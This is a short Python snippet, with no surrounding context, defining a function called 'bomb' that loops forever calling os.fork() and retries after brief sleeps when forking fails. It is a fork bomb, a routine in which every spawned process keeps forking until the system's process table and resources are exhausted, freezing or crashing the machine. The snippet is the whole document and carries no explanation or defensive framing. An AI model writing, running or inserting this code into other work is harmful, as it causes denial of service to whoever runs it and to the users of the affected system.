def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)
